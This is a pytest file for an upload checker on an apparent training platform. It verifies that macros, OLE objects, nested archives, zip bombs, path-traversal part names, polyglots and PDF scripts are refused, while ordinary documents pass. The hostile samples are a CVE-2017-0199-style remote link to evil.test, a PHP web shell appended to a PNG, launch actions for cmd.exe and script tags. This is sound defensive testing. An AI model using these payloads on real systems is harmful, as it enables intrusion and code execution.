"""Uploads of an allowed type that carry what they should not: macros, embedded objects and
archives, decompression bombs, PDF scripts and polyglots. Ordinary documents still pass.

Refusals come from `check_upload`, which every upload goes through (`store_upload` for
submissions, feedback and evidence; the content service directly)."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
import segno
from openpyxl.chart import BarChart, Reference
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from academy.assessment.models import Submission, SubmissionFile
from academy.content import services as content
from academy.content.models import Resource
from academy.core import filetypes
from academy.core.filetypes import UnsupportedFileType, check_upload
from academy.core.uploads import store_upload
from tests.conftest import count
from tests.content import files

# --- real documents, built the way the programs that make them do --------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def zip_bytes(entries: dict[str, bytes | str], *, stored: frozenset[str] = frozenset()) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate names some tests need
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in entries.items():
                method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
                archive.writestr(name.split("\0")[0], data, compress_type=method)
    return buffer.getvalue()


def content_types(main: str = DOCX_MAIN, *, defaults: str = "", overrides: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>' + defaults + "<Override "
        f'PartName="/word/document.xml" ContentType="{main}"/>'
        '<Override PartName="/docProps/core.xml" '
        'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
        + overrides
        + "</Types>"
    )


def relationships(*rels: tuple[str, str, str]) -> str:
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(rels, start=1)
    )
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{head}<Relationships xmlns="{RELS}">{body}</Relationships>'


def docx(
    extra: dict[str, bytes | str] | None = None,
    *,
    main: str = DOCX_MAIN,
    defaults: str = "",
    overrides: str = "",
    document_rels: tuple = (),
) -> bytes:
    """A Word document as Word writes one: content types, package and part relationships, core
    properties, the document (with a hyperlink and a picture), and any `extra` parts."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(main, defaults=defaults, overrides=overrides),
        "_rels/.rels": relationships(
            (f"{OFFICE_RELS}/officeDocument", "word/document.xml", ""),
            (f"{RELS}/metadata/core-properties", "docProps/core.xml", ""),
        ),
        "word/document.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>'
            "<w:p><w:r><w:t>Why EPR go-lives stall: &lt;html&gt; is not the answer."
            "</w:t></w:r></w:p></w:body></w:document>"
        ),
        "word/_rels/document.xml.rels": relationships(
            (f"{OFFICE_RELS}/hyperlink", "https://www.england.nhs.uk/", ' TargetMode="External"'),
            (f"{OFFICE_RELS}/image", "media/image1.png", ""),
            *document_rels,
        ),
        "word/media/image1.png": PNG,
        "docProps/core.xml": (
            '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/'
            'package/2006/metadata/core-properties"/>'
        ),
    }
    parts.update(extra or {})
    return zip_bytes(parts)


def xlsx(*, chart: bool = True) -> bytes:
    """A workbook as openpyxl (and so, near enough, Excel) writes one."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Trust", "Go-lives", "Stalled"])
    for row in range(1, 40):
        sheet.append([f"Trust {row}", row % 7, row % 3])
    if chart:
        bars = BarChart()
        bars.add_data(Reference(sheet, min_col=2, min_row=1, max_row=40), titles_from_data=True)
        sheet.add_chart(bars, "E2")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx_with_chart(workbook: bytes) -> bytes:
    """Word keeps a chart's data as a whole workbook under word/embeddings/."""
    return docx(
        {
            "word/charts/chart1.xml": "<c:chartSpace/>",
            "word/charts/_rels/chart1.xml.rels": relationships(
                (f"{OFFICE_RELS}/package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", "")
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook,
        },
        defaults='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet"/>',
        document_rels=((f"{OFFICE_RELS}/chart", "charts/chart1.xml", ""),),
    )


def odt(extra: dict[str, bytes | str] | None = None, manifest_extra: str = "") -> bytes:
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
        'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        + manifest_extra
        + "</manifest:manifest>"
    )
    parts: dict[str, bytes | str] = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": '<?xml version="1.0"?><office:document-content><office:body>'
        "<office:text><text:p>Reflective log</text:p></office:text></office:body>"
        "</office:document-content>",
        "styles.xml": '<?xml version="1.0"?><office:document-styles/>',
        "Thumbnails/thumbnail.png": PNG,
        "Configurations2/accelerator/current.xml": "",
        "META-INF/manifest.xml": manifest,
    }
    parts.update(extra or {})
    return zip_bytes(parts, stored=frozenset({"mimetype"}))


def with_encrypted_entry(data: bytes, name: str) -> bytes:
    """Set the 'encrypted' flag of one entry in the central directory, as a zip tool would."""
    data = bytearray(data)
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        name_length, extra_length, comment_length = struct.unpack(
            "<HHH", data[position + 28 : position + 34]
        )
        if data[position + 46 : position + 46 + name_length] == name.encode():
            flags = struct.unpack("<H", data[position + 8 : position + 10])[0]
            data[position + 8 : position + 10] = struct.pack("<H", flags | 1)
            return bytes(data)
        position = data.find(b"PK\x01\x02", position + 46)
    raise AssertionError(name)


def qr_png() -> bytes:
    buffer = io.BytesIO()
    segno.make("https://academy.test/verify").save(buffer, kind="png", scale=2)
    return buffer.getvalue()


PNG = qr_png()


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG with a chunk added just after IHDR (where text chunks usually sit)."""
    chunk = struct.pack(">I", len(data)) + kind + data
    chunk += struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return PNG[:33] + chunk + PNG[33:]


def jpeg(*segments: bytes) -> bytes:
    """A real baseline JPEG (one grey 1x1 pixel, decodable: one-code Huffman tables, DC 0 then
    end of block), with `segments` (APPn, COM) after the start marker."""
    quantisation = b"\xff\xdb\x00\x43\x00" + b"\x01" * 64
    frame = b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00"
    one_code = b"\x01" + b"\x00" * 15 + b"\x00"
    huffman = b"\xff\xc4\x00\x14\x00" + one_code + b"\xff\xc4\x00\x14\x10" + one_code
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x3f"
    return b"\xff\xd8" + b"".join(segments) + quantisation + frame + huffman + scan + b"\xff\xd9"


def segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


JPEG = jpeg(segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"))
#: A camera's picture: EXIF with a thumbnail, itself a whole JPEG with its own end marker.
JPEG_WITH_THUMBNAIL = jpeg(segment(0xE1, b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + JPEG))


def pdf(*objects: bytes, header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A PDF with a correct cross-reference table; object 1 is the catalog."""
    body = bytearray(header)
    offsets = []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(body)


PAGE_TEXT = zlib.compress(b"BT /F1 12 Tf 72 770 Td (Reflective log) Tj ET")
PAGE_OBJECTS = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>",
    b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(PAGE_TEXT), PAGE_TEXT),
    b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] "
    b"/A << /S /URI /URI (https://www.england.nhs.uk/) >> >>",
)
PDF = pdf(*PAGE_OBJECTS)


def pdf_with_object_stream(*objects: bytes, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    """PDF 1.5 and later: dictionaries packed into a compressed object stream (object 1),
    indexed by a cross-reference stream; the packed objects are numbered from 2."""
    numbers = b""
    packed = b""
    for index, text in enumerate(objects):
        numbers += b"%d %d " % (index + 2, len(packed))
        packed += text + b"\n"
    data = numbers + packed
    encoded = zlib.compress(data) if b"Flate" in filters else data
    if b"ASCIIHex" in filters:
        encoded = zlib.compress(data).hex().encode() + b">"
    body = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(body)
    body += b"1 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d %s >>\nstream\n" % (
        len(objects),
        len(numbers),
        len(encoded),
        filters,
    )
    body += encoded + b"\nendstream\nendobj\n"
    xref_number = len(objects) + 2
    xref_at = len(body)
    rows = struct.pack(">BIH", 0, 0, 65535) + struct.pack(">BIH", 1, stream_at, 0)
    rows += b"".join(struct.pack(">BIH", 2, 1, index) for index in range(len(objects)))
    rows += struct.pack(">BIH", 1, xref_at, 0)
    body += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(rows),
    )
    body += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(body)


OBJECT_STREAM_PAGES = (
    b"<< /Type /Catalog /Pages 3 0 R >>",
    b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
)


#: Obfuscated fonts and printer settings are binary parts that are neither archives nor programs.
DOCX_WITH_BINARY_PARTS = docx(
    {
        "word/fonts/font1.odttf": b"MZ" + bytes(range(256)) * 4,
        "word/printerSettings/printerSettings1.bin": "Microsoft Print to PDF".encode("utf-16-le"),
    }
)


def checked(data: bytes, name: str, allowed=filetypes.ALL_TYPES) -> str:
    return check_upload(io.BytesIO(data), name, allowed)[0].ext


def refused(data: bytes, name: str) -> str:
    with pytest.raises(UnsupportedFileType) as raised:
        check_upload(io.BytesIO(data), name)
    assert raised.value.status == 415 and raised.value.field == "file"
    return raised.value.message


# --- ordinary documents still pass ---------------------------------------------------------


@pytest.mark.no_db
@pytest.mark.parametrize(
    ("data", "name", "ext"),
    [
        (docx(), "essay.docx", "docx"),
        (docx_with_chart(xlsx()), "essay with a chart.docx", "docx"),
        (DOCX_WITH_BINARY_PARTS, "essay with fonts.docx", "docx"),
        (xlsx(), "go-lives.xlsx", "xlsx"),
        (files.office("ppt/presentation.xml"), "slides.pptx", "pptx"),
        (odt(), "log.odt", "odt"),
        (files.docx(), "tiny.docx", "docx"),
        (PDF, "essay.pdf", "pdf"),
        (files.PDF, "minimal.pdf", "pdf"),
        (pdf_with_object_stream(*OBJECT_STREAM_PAGES), "modern.pdf", "pdf"),
        (PNG, "qr.png", "png"),
        (PNG + b"\x00" * 16, "padded.png", "png"),
        (files.PNG, "cut-short.png", "png"),
        (JPEG, "pixel.jpg", "jpg"),
        (JPEG_WITH_THUMBNAIL, "camera.jpg", "jpg"),
        (files.JPEG, "jfif.jpg", "jpg"),
        (
            b"# Notes\n\n<p align=center>A paragraph</p>\n\nUse <b>bold</b> sparingly.",
            "a.md",
            "txt",
        ),
        (b"trust,go_lives\nRXH,3\n", "go-lives.csv", "txt"),
    ],
)
def test_ordinary_documents_pass(data, name, ext):
    assert checked(data, name) == ext


@pytest.mark.no_db
def test_the_checks_leave_the_stream_where_it_was():
    stream = io.BytesIO(b"prefix" + docx_with_chart(xlsx()))
    stream.seek(6)
    assert check_upload(stream, "essay.docx")[0] is filetypes.DOCX
    assert stream.tell() == 6


# --- nested archives and embedded objects --------------------------------------------------

ARCHIVES = {
    "zip": files.zip_of({"payload.txt": "hi"}),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40,
    "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 40,
    "xz": b"\xfd7zXZ\x00" + b"\x00" * 40,
    "cab": b"MSCF\x00\x00\x00\x00" + b"\x00" * 40,
    "tar": b"payload.txt".ljust(257, b"\x00") + b"ustar\x0000" + b"\x00" * 240,
    # A Windows program: the DOS header points (at byte 60) to the PE signature.
    "exe": b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 128) + b"\x00" * 64 + b"PE\x00\x00",
}


@pytest.mark.no_db
@pytest.mark.parametrize("kind", ARCHIVES)
def test_an_archive_inside_a_document_is_refused_by_its_content(kind):
    # Named as a picture: the bytes decide, not the name.
    message = refused(docx({"word/media/image2.png": ARCHIVES[kind]}), "essay.docx")
    assert "another archive or program file (word/media/image2.png)" in message
    assert "save the document as a PDF" in message


@pytest.mark.no_db
@pytest.mark.parametrize("name", ["word/media/tool.exe", "customXml/run.js", "docProps/a.jar"])
def test_a_program_or_archive_by_name_is_refused(name):
    assert "another archive or program file" in refused(docx({name: "plain"}), "essay.docx")


@pytest.mark.no_db
def test_an_archive_in_an_opendocument_is_refused():
    assert "another archive" in refused(odt({"Pictures/a.png": ARCHIVES["zip"]}), "log.odt")


@pytest.mark.no_db
@pytest.mark.parametrize(
    "extra",
    [
        {"word/embeddings/oleObject1.bin": filetypes.OLE2_MAGIC + b"\x00" * 500},
        {"word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls": filetypes.OLE2_MAGIC + b"\0"},
        {"word/activeX/activeX1.xml": "<ax:ocx/>"},
        {"word/activeX/activeX1.bin": b"\x00" * 40},
        {"Object 1": filetypes.OLE2_MAGIC + b"\x00" * 100},
    ],
)
def test_embedded_ole_objects_and_activex_controls_are_refused(extra):
    assert "embedded object or ActiveX control" in refused(docx(extra), "essay.docx")


@pytest.mark.no_db
@pytest.mark.parametrize(
    "kwargs",
    [
        {
            "overrides": '<Override PartName="/word/embeddings/x.bin" ContentType="application/'
            'vnd.openxmlformats-officedocument.oleObject"/>'
        },
        {"defaults": '<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>'},
        {
            # A linked object: the attack of CVE-2017-0199 fetches it from a web address.
            "document_rels": (
                (f"{OFFICE_RELS}/oleObject", "https://evil.test/x.hta", ' TargetMode="External"'),
            )
        },
    ],
)
def test_ole_objects_declared_by_content_type_or_relationship_are_refused(kwargs):
    assert "embedded object" in refused(docx(**kwargs), "essay.docx")


@pytest.mark.no_db
def test_an_embedded_workbook_must_itself_be_clean():
    macro_workbook = docx({"word/vbaProject.bin": b"\x00"})  # any package holding macros
    nested_twice = docx_with_chart(docx_with_chart(xlsx()))
    workbook_with_archive = zip_bytes(
        {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>", "xl/a.bin": ARCHIVES["7z"]}
    )
    assert "macros" in refused(docx_with_chart(macro_workbook), "essay.docx")
    assert "another archive" in refused(nested_twice, "essay.docx")
    assert "another archive" in refused(docx_with_chart(workbook_with_archive), "essay.docx")
    assert "another archive" in refused(docx_with_chart(ARCHIVES["zip"]), "essay.docx")


# --- bombs and unsafe packages -------------------------------------------------------------


@pytest.mark.no_db
def test_a_part_that_unpacks_absurdly_is_a_bomb():
    message = refused(docx({"word/fill.xml": b"0" * (2 * 1024 * 1024)}), "essay.docx")
    assert "unpacks to far more than its size" in message


@pytest.mark.no_db
def test_the_whole_package_may_not_unpack_past_the_limits(monkeypatch):
    parts = {f"word/media/p{n}.bin": bytes(range(256)) * 64 for n in range(4)}  # 16 KB each
    assert checked(docx(parts), "essay.docx") == "docx"
    monkeypatch.setattr(filetypes, "MAX_UNPACKED_BYTES", 32 * 1024)
    assert "unpacks to far more" in refused(docx(parts), "essay.docx")
    monkeypatch.setattr(filetypes, "MAX_UNPACKED_BYTES", 10 * 1024 * 1024)
    monkeypatch.setattr(filetypes, "MAX_UNPACK_RATIO", 2)
    assert "unpacks to far more" in refused(docx(parts), "essay.docx")


@pytest.mark.no_db
def test_too_many_parts_or_too_deep_a_path_is_refused(monkeypatch):
    deep = "word/" + "/".join(["d"] * 20) + "/x.xml"
    assert "not safe to open" in refused(docx({deep: "<x/>"}), "essay.docx")
    monkeypatch.setattr(filetypes, "MAX_PACKAGE_ENTRIES", 8)
    assert checked(docx(), "essay.docx") == "docx"  # 6 parts
    parts = {f"customXml/item{n}.xml": "<x/>" for n in range(3)}
    assert "not safe to open" in refused(docx(parts), "essay.docx")


@pytest.mark.no_db
@pytest.mark.parametrize(
    "name",
    [
        "../../evil.xml",
        "word/../../evil.xml",
        "/etc/cron.d/evil",
        "C:/Windows/evil.xml",
        "word\\..\\evil.xml",
        "word//evil.xml",
        "word/document.xml",  # a second part of the same name
        "Word/Document.XML",  # part names ignore case
    ],
)
def test_unsafe_or_duplicate_part_names_are_refused(name):
    assert "not safe to open" in refused(docx({name + "\0dup": "<x/>"}), "essay.docx")


@pytest.mark.no_db
def test_encrypted_parts_and_encrypted_opendocuments_are_refused():
    message = refused(with_encrypted_entry(docx(), "word/document.xml"), "essay.docx")
    assert "password-protected or encrypted" in message
    encrypted_odt = odt(manifest_extra="<manifest:encryption-data/>")
    assert "password-protected or encrypted" in refused(encrypted_odt, "log.odt")


# --- macros --------------------------------------------------------------------------------


@pytest.mark.no_db
@pytest.mark.parametrize(
    ("data", "name"),
    [
        (docx(main=DOCM_MAIN), "essay.docm"),
        (docx(main=DOCM_MAIN), "essay.docx"),
        (docx({"word/vbaProject.bin": b"\xcc" * 64}), "essay.docx"),
        (
            docx(
                {"word/renamed.bin": b"\x00"},
                defaults='<Default Extension="bin" '
                'ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
            "essay.docx",
        ),  # fmt: skip
        (docx({"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}), "essay.docx"),
        (odt({"Basic/Standard/Module1.xml": "<script:module/>"}), "log.odt"),
        (odt({"Scripts/python/run.py": "import os"}), "log.odt"),
    ],
)
def test_macro_enabled_documents_are_refused(data, name):
    message = refused(data, name)
    assert "contains macros" in message and "not a macro-enabled one" in message


@pytest.mark.no_db
def test_a_macro_enabled_workbook_is_refused():
    workbook = zip_bytes(
        {
            "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" ContentType='
            '"application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
            "xl/workbook.xml": "<workbook/>",
        }
    )
    assert "contains macros" in refused(workbook, "figures.xlsm")


@pytest.mark.no_db
@pytest.mark.parametrize("name", ["essay.doc", "figures.xls", "essay.docx", "essay"])
def test_older_office_files_are_refused_with_a_way_forward(name):
    compound = filetypes.OLE2_MAGIC + b"\x00" * 504 + b"WordDocument"
    message = refused(compound, name)
    assert "older Word, Excel or PowerPoint file" in message
    assert ".docx" in message and "PDF" in message


# --- polyglots -----------------------------------------------------------------------------


@pytest.mark.no_db
@pytest.mark.parametrize(
    ("data", "name"),
    [
        (PDF + files.docx(), "essay.pdf"),
        (PNG + files.zip_of({"run.js": "x"}), "qr.png"),
        (JPEG + files.zip_of({"run.js": "x"}), "photo.jpg"),
        (files.PDF + b"%" + files.zip_of({"a.txt": "a"}) + b"\n%%EOF\n", "essay.pdf"),
    ],
)
def test_a_zip_directory_at_the_end_of_a_pdf_or_picture_is_refused(data, name):
    assert "another file (an archive) hidden inside it" in refused(data, name)


@pytest.mark.no_db
@pytest.mark.parametrize(
    ("data", "name"),
    [
        (png_with_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>"), "qr.png"),
        (jpeg(segment(0xFE, b"<html><body onload=alert(1)>")), "photo.jpg"),
        (jpeg(segment(0xFE, b"<SVG xmlns='http://www.w3.org/2000/svg'>")), "photo.jpg"),
        (pdf(*PAGE_OBJECTS, header=b"%PDF-1.7\n%<!DOCTYPE html>\n"), "essay.pdf"),
        (pdf(*PAGE_OBJECTS, header=b"%PDF-1.7\n%<iframe src=x>\n"), "essay.pdf"),
    ],
)
def test_web_page_markup_where_browsers_sniff_is_refused(data, name):
    assert "web page or script code" in refused(data, name)


@pytest.mark.no_db
def test_a_pdf_header_inside_another_type_is_refused():
    assert "also looks like a PDF" in refused(jpeg(segment(0xFE, b"%PDF-1.4 obj")), "a.jpg")


@pytest.mark.no_db
@pytest.mark.parametrize(
    ("data", "name"),
    [
        (PNG + b"<?php system($_GET['c']); ?>", "qr.png"),
        (PNG + b"\x00" * 8192, "qr.png"),  # padding, but far more than any encoder leaves
        (JPEG + b"MotionPhoto_Data" + b"\x00" * 64, "photo.jpg"),
        (JPEG_WITH_THUMBNAIL + b"trailing", "photo.jpg"),
    ],
)
def test_data_after_the_end_of_a_picture_is_refused(data, name):
    assert "extra data after the end of the image" in refused(data, name)


@pytest.mark.no_db
@pytest.mark.parametrize(
    "extra",
    [
        b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /Type /EmbeddedFile /Length 0 >>",
        b"<< /Names << /EmbeddedFiles 7 0 R >> >>",
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",  # names spelled with #xx escapes
        b"<< /S /URI /URI (javascript:alert(1)) >>",
        b"<< /AcroForm << /XFA 8 0 R >> >>",
    ],
)
def test_pdf_scripts_launch_actions_and_attachments_are_refused(extra):
    assert "scripts, embedded files or actions" in refused(pdf(*PAGE_OBJECTS, extra), "a.pdf")


@pytest.mark.no_db
def test_an_open_action_that_runs_a_script_is_refused():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 6 0 R >> >>"
    assert "scripts" in refused(pdf(catalog, *PAGE_OBJECTS[1:]), "essay.pdf")


@pytest.mark.no_db
def test_scripts_hidden_in_a_compressed_object_stream_are_refused():
    script = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    assert "scripts" in refused(pdf_with_object_stream(*OBJECT_STREAM_PAGES, script), "a.pdf")
    launch = b"<< /S /Launch /F (calc.exe) >>"
    assert "scripts" in refused(
        pdf_with_object_stream(*OBJECT_STREAM_PAGES, launch, filters=b""), "a.pdf"
    )


@pytest.mark.no_db
def test_an_object_stream_that_cannot_be_read_is_refused():
    hex_encoded = pdf_with_object_stream(
        *OBJECT_STREAM_PAGES, filters=b"/Filter [/ASCIIHexDecode /FlateDecode]"
    )
    assert "could not be checked" in refused(hex_encoded, "a.pdf")
    damaged = pdf_with_object_stream(*OBJECT_STREAM_PAGES).replace(b"x\x9c", b"x\x00", 1)
    assert "could not be checked" in refused(damaged, "a.pdf")


@pytest.mark.no_db
def test_an_open_action_that_only_shows_a_page_passes():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
    assert checked(pdf(catalog, *PAGE_OBJECTS[1:]), "essay.pdf") == "pdf"


@pytest.mark.no_db
@pytest.mark.parametrize(
    "text",
    [
        b"<!DOCTYPE html><title>Notes</title>",
        b"\xef\xbb\xbf  <html><body>notes</body></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"# Notes\n\nSee below.\n<script src=https://evil.test/x.js></script>\n",
    ],
)
def test_a_text_file_that_is_really_a_web_page_is_refused(text):
    assert "text file is a web page or SVG image" in refused(text, "notes.txt")


# --- one path for every upload -------------------------------------------------------------


def stored_files(app) -> set[Path]:
    return {path for path in Path(app.config["STORAGE_DIR"]).rglob("*") if path.is_file()}


def test_store_upload_refuses_before_storing_and_names_the_callers_field(app, ctx):
    before = stored_files(app)
    with pytest.raises(UnsupportedFileType, match="contains macros") as raised:
        store_upload(
            io.BytesIO(docx(main=DOCM_MAIN)),
            "certificate.docx",
            allowed_types=["pdf", "docx"],
            max_mb=5,
            field="evidence",
        )
    assert raised.value.field == "evidence"
    assert stored_files(app) == before


def test_a_learners_macro_document_is_refused_through_the_api_and_nothing_is_kept(make, api, app):
    cohort = make.cohort()
    learner = make.learner_in(cohort)
    assignment = make.assignment(cohort)
    boundary, body = encode_multipart(
        {"file": FileStorage(io.BytesIO(docx(main=DOCM_MAIN)), filename="essay.docm")}
    )
    before = stored_files(app)

    response = api(learner).post(
        f"assignments/{assignment.id}/submission/files",
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )

    assert response.status_code == 415
    payload = response.get_json()
    assert "contains macros" in payload["message"]
    assert payload["errors"] == {"file": [payload["message"]]}
    assert count(Submission) == 0 and count(SubmissionFile) == 0
    assert stored_files(app) == before


def test_content_files_get_the_same_checks(make, app, ctx):
    module = make.module()
    section = make.section(module)
    tutor = make.user("admin")
    before = stored_files(app)
    script = pdf(*PAGE_OBJECTS, b"<< /S /JavaScript /JS (app.alert(1)) >>")

    with pytest.raises(UnsupportedFileType, match="scripts") as raised:
        content.add_resource(
            section,
            actor=tutor,
            kind="file",
            title="Week 1 slides",
            upload=content.Upload(stream=io.BytesIO(script), name="slides.pdf"),
        )
    assert raised.value.field == "file"
    assert count(Resource) == 0
    assert stored_files(app) == before
